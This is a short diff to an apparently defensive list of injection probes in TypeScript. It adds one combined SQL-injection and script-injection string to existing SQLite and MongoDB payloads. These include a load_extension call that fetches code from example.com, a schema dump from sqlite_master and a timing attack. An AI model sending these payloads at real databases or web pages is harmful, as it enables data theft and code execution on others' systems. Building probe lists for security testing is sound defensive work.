@@ -15,4 +15,5 @@ export const sqlProbes: readonly string[] = [
   "1;SELECT load_extension('http://example.com/probe')",
   "' || (SELECT group_concat(name) FROM sqlite_master) || '",
   '"; db.users.find({ "$where": "sleep(1000)" }); //',
+  `' OR 1=1 -- "><img src=http://example.com/probe onerror=probed=1>`,
 ]
